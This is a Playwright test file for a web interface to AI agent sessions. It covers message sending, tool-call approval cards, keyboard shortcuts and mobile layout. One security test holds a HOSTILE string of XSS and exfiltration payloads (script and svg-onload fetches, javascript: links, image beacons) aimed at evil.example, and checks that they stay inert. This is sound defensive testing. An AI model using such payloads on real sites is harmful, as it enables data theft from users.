from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from celeriac.sessions.calls import CallStatus
from celeriac.sessions.events import EventType
from celeriac.sessions.messages import Role
from tests.browser.conftest import OpenPage
from tests.web.fake_client import FakeClient

PHONE = {"viewport": {"width": 375, "height": 700}, "has_touch": True, "is_mobile": True}


def live(page: Page) -> Page:
    expect(page.locator("#connection")).to_have_text("live")
    return page


def test_a_message_is_sent_in_place_and_its_answer_streams(
    open_page: OpenPage, fake: FakeClient
) -> None:
    sid = fake.create_session().session_id
    page = live(open_page(f"/sessions/{sid}"))
    page.get_by_label("Message", exact=True).fill("tell me")
    page.keyboard.press("Enter")
    expect(page.locator(".message--user")).to_contain_text("tell me")
    expect(page.get_by_label("Message", exact=True)).to_have_value("")
    fake.delta(sid, "Once **upon")
    fake.delta(sid, " a time**")
    expect(page.locator("#live [data-live=text]")).to_have_text("Once **upon a time**")
    fake.reply(sid, "Once **upon a time**")
    expect(page.locator(".transcript strong")).to_have_text("upon a time")
    expect(page.locator("#live")).to_be_hidden()
    expect(page.locator("#announce")).to_have_text("Ready for your message")


def test_shift_enter_makes_a_new_line_and_an_empty_message_is_not_sent(
    open_page: OpenPage, fake: FakeClient
) -> None:
    sid = fake.create_session().session_id
    page = live(open_page(f"/sessions/{sid}"))
    field = page.get_by_label("Message", exact=True)
    field.fill("   ")
    field.press("Enter")
    field.fill("one")
    field.press("Shift+Enter")
    field.type("two")
    field.press("Control+Enter")
    expect(page.locator(".message--user .plain")).to_have_text(["one\ntwo"])
    assert [message.text for message in fake.sessions[sid].messages] == ["one\ntwo"]


def test_a_withdrawn_attempt_takes_its_text_away(
    open_page: OpenPage, fake: FakeClient, sid: str
) -> None:
    page = live(open_page(f"/sessions/{sid}"))
    fake.delta(sid, "wrong start")
    expect(page.locator("#live")).to_contain_text("wrong start")
    fake.publish(sid, EventType.TEXT_WITHDRAWN, {"step_id": "s1", "attempt": 1})
    expect(page.locator("#live")).to_be_hidden()
    fake.delta(sid, "right", attempt=2)
    expect(page.locator("#live [data-live=text]")).to_have_text("right")


@pytest.mark.parametrize(
    ("button", "line"),
    [("Approve", "Approved by Ana, "), ("Reject", "Rejected by Ana, ")],
)
def test_a_decision_in_place_settles_into_a_permanent_line(
    open_page: OpenPage, fake: FakeClient, sid: str, button: str, line: str
) -> None:
    page = live(open_page(f"/sessions/{sid}"))
    call = fake.ask(sid)
    card = page.locator(f"#call-{call.id}")
    expect(card).to_contain_text("Needs approval")
    expect(page.locator(".state__sentence")).to_have_text(
        "Waiting for your approval of cancel_order"
    )
    page.evaluate("window.samePage = true")
    card.get_by_label("Note for the agent").fill("careful")
    card.get_by_role("button", name=button).click()
    expect(card.locator(".decision")).to_contain_text(line)
    expect(card.locator(".decision")).to_contain_text("careful")
    expect(card.get_by_role("button")).to_have_count(0)
    assert page.evaluate("window.samePage") is True
    page.reload()
    expect(card.locator(".decision")).to_contain_text(line)


def test_a_card_decided_elsewhere_says_so(open_page: OpenPage, fake: FakeClient, sid: str) -> None:
    page = live(open_page(f"/sessions/{sid}"))
    call = fake.ask(sid)
    card = page.locator(f"#call-{call.id}")
    expect(card).to_contain_text("Needs approval")
    # The decision is made without an event, as when one is lost.
    record = fake.sessions[sid].calls[call.id]
    fake.sessions[sid].calls[call.id] = record.model_copy(update={"digest": "d2"})
    card.get_by_role("button", name="Approve").click()
    expect(page.locator("#send-problem")).to_have_text("The call has changed; look at it again.")
    expect(card.locator('input[name="digest"]')).to_have_value("d2")


def test_what_is_typed_in_one_card_survives_news_about_another(
    open_page: OpenPage, fake: FakeClient, sid: str
) -> None:
    first, second = fake.ask(sid), fake.ask(sid)
    page = live(open_page(f"/sessions/{sid}"))
    note = page.locator(f"#call-{first.id}").get_by_label("Note for the agent")
    note.fill("half a sent")
    fake.change(sid, second.id, status=CallStatus.CANCELLED)
    expect(page.locator(f"#call-{second.id}")).to_contain_text("Cancelled")
    expect(note).to_have_value("half a sent")
    expect(note).to_be_focused()


def test_keys_decide_the_focused_card_only_and_escape_never(
    open_page: OpenPage, fake: FakeClient, sid: str
) -> None:
    first, second = fake.ask(sid), fake.ask(sid)
    page = live(open_page(f"/sessions/{sid}"))
    page.keyboard.press("a")  # no card has the focus
    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(page.locator(f"#call-{second.id}")).to_be_focused()
    page.keyboard.press("k")
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    page.keyboard.press("r")
    expect(page.locator(f"#call-{second.id}")).to_contain_text("Rejected by Ana")
    expect(page.locator(f"#call-{second.id}")).to_be_focused()
    assert fake.call(sid, first.id).decision is None
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("a")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_be_hidden()
    assert fake.call(sid, first.id).decision is None


def test_keys_in_a_field_are_only_text(open_page: OpenPage, fake: FakeClient, sid: str) -> None:
    call = fake.ask(sid)
    page = live(open_page(f"/sessions/{sid}"))
    note = page.get_by_label("Note for the agent")
    note.press_sequentially("a j r ?")
    note.press("Enter")
    expect(note).to_have_value("a j r ?\n")
    assert fake.call(sid, call.id).decision is None


def test_single_keys_can_be_switched_off(open_page: OpenPage, fake: FakeClient, sid: str) -> None:
    call = fake.ask(sid)
    page = live(open_page(f"/sessions/{sid}"))
    page.keyboard.press("?")
    page.get_by_label("Use single keys").uncheck()
    page.keyboard.press("Escape")
    page.locator(f"#call-{call.id}").focus()
    page.keyboard.press("a")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    assert fake.call(sid, call.id).decision is None


def test_a_failed_send_keeps_the_draft_and_a_retry_is_one_message(
    open_page: OpenPage, fake: FakeClient
) -> None:
    sid = fake.create_session().session_id
    page = live(open_page(f"/sessions/{sid}"))
    field = page.get_by_label("Message", exact=True)
    field.fill("keep me")
    page.route("**/messages", lambda route: (route.fetch(), route.abort())[1])
    field.press("Enter")
    expect(page.locator("#send-problem")).to_contain_text("cannot be reached")
    expect(field).to_have_value("keep me")
    page.unroute("**/messages")
    page.reload()
    expect(field).to_have_value("keep me")
    live(page)
    field.press("Enter")
    expect(field).to_have_value("")
    assert [message.text for message in fake.sessions[sid].messages] == ["keep me"]


def test_the_queue_shows_and_deletes(open_page: OpenPage, fake: FakeClient, sid: str) -> None:
    page = live(open_page(f"/sessions/{sid}"))
    fake.send_message(sid, "and then this")
    item = page.locator(".queue__item")
    expect(item).to_contain_text("and then this")
    item.get_by_role("button", name="Delete").click()
    expect(item).to_have_count(0)
    assert fake.sessions[sid].queue == []


def test_a_trimmed_stream_makes_the_page_read_itself_anew(
    open_page: OpenPage, fake: FakeClient, sid: str
) -> None:
    page = live(open_page(f"/sessions/{sid}"))
    fake.trimmed_before = len(fake.sessions[sid].events) + 1
    fake.sessions[sid].messages[0] = (
        fake.sessions[sid].messages[0].model_copy(update={"text": "seen after the gap"})
    )
    fake.publish(sid, EventType.QUEUE_CHANGED, {"length": 0})
    expect(page.locator(".message--user")).to_contain_text("seen after the gap")
    live(page)


def test_a_server_without_a_free_stream_is_polled(
    open_page: OpenPage, fake: FakeClient, sid: str
) -> None:
    page = open_page("/sessions")
    page.route("**/events?*", lambda route: route.fulfill(status=503))
    page.goto(f"/sessions/{sid}")
    expect(page.locator("#connection")).to_contain_text("checking every 5 seconds")
    fake.reply(sid, "read by polling")
    expect(page.locator(".transcript")).to_contain_text("read by polling")


def test_everything_works_without_scripts(open_page: OpenPage, fake: FakeClient) -> None:
    page = open_page("/sessions", java_script_enabled=False)
    page.get_by_label("First message").fill("hello without scripts")
    page.get_by_role("button", name="Start session").click()
    expect(page.locator(".message--user")).to_contain_text("hello without scripts")
    (sid,) = fake.sessions
    call = fake.ask(sid)
    page.reload()
    card = page.locator(f"#call-{call.id}")
    card.get_by_label("Note for the agent").fill("fine")
    card.get_by_role("button", name="Approve").click()
    expect(card).to_contain_text("Approved by Ana, ")
    page.get_by_label("Message", exact=True).fill("next")
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".queue__item")).to_contain_text("next")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".transcript")).to_contain_text("Stopped by Ana")


HOSTILE = """![x](https://evil.example/1.png?q=secret) ![y][r] <https://evil.example/2>
<img src="https://evil.example/3.png"><svg onload="fetch('https://evil.example/4')"></svg>
<div style="background:url(https://evil.example/5)">x</div>
<script>fetch("https://evil.example/6")</script><iframe src="https://evil.example/7"></iframe>
[click](javascript:fetch('https://evil.example/8')) ![z](data:image/svg+xml;base64,PHN2Zy8+)

[r]: https://evil.example/9.png
"""


def test_se_02_hostile_text_is_inert_and_nothing_leaves_this_server(
    open_page: OpenPage, fake: FakeClient, sid: str, address: str, requests: list[str]
) -> None:
    fake.say(sid, HOSTILE, reasoning=HOSTILE)
    fake.say(sid, HOSTILE, role=Role.SUMMARY)
    fake.ask(
        sid, tool='x"><img src=//evil.example/a>', arguments={"<img src=//evil.example/b>": HOSTILE}
    )
    page = live(open_page(f"/sessions/{sid}"))
    fake.ask(sid, status=CallStatus.SUCCEEDED, result=HOSTILE, text=HOSTILE)
    fake.delta(sid, HOSTILE)
    expect(page.locator("#live")).to_contain_text("evil.example")
    for folded in page.locator("details").all():
        folded.evaluate("details => { details.open = true }")
    page.goto("/approvals")
    expect(page.locator(".card")).to_have_count(1)
    page.goto(f"/sessions/{sid}")
    live(page)
    outside = [url for url in requests if not url.startswith(address)]
    assert outside == []
    assert page.locator("main img, main svg, main iframe, main script").count() == 0
    link = page.locator('a[href="https://evil.example/2"]').first
    assert "noreferrer" in (link.get_attribute("rel") or "")
    expect(link.locator("xpath=following-sibling::span[1]")).to_have_text("(evil.example)")


def test_on_a_phone_nothing_scrolls_sideways_and_reject_is_in_reach(
    open_page: OpenPage, fake: FakeClient, sid: str
) -> None:
    fake.say(sid, "| a | b |\n|---|---|\n| " + "wide " * 40 + " | x |\n\n`" + "y" * 300 + "`")
    call = fake.ask(sid, tool="a_rather_long_tool_name_that_goes_on_and_on_for_a_while", arguments={
        "a_long_argument_name_without_any_blank": "z" * 400, "n": 5})  # fmt: skip
    page = open_page(f"/sessions/{sid}", **PHONE)
    for path in (f"/sessions/{sid}", "/approvals", "/sessions", "/login"):
        page.goto(path)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
        small = page.locator(
            "button:visible, nav a:visible, summary:visible, input:visible"
        ).evaluate_all(
            "all => all.map(e => [e.outerHTML, e.getBoundingClientRect()])"
            ".filter(([, box]) => box.height && box.height < 44).map(([html]) => html)"
        )
        assert [html for html in small if "checkbox" not in html] == [], path
    page.goto(f"/sessions/{sid}")
    reject = page.locator(f"#call-{call.id}").get_by_role("button", name="Reject")
    reject.scroll_into_view_if_needed()
    covered = reject.evaluate(
        "e => { const b = e.getBoundingClientRect();"
        " return document.elementFromPoint(b.x + b.width / 2, b.y + b.height / 2) !== e }"
    )
    assert covered is False
    reject.tap()
    expect(page.locator(f"#call-{call.id}")).to_contain_text("Rejected by Ana")


def test_a_raw_html_sink_is_refused_by_the_policy(open_page: OpenPage, sid: str) -> None:
    page = open_page(f"/sessions/{sid}")
    error = page.evaluate(
        "() => { try { document.body.innerHTML = '<b>x</b>' } catch (error) { return error.name } }"
    )
    assert error == "TypeError"
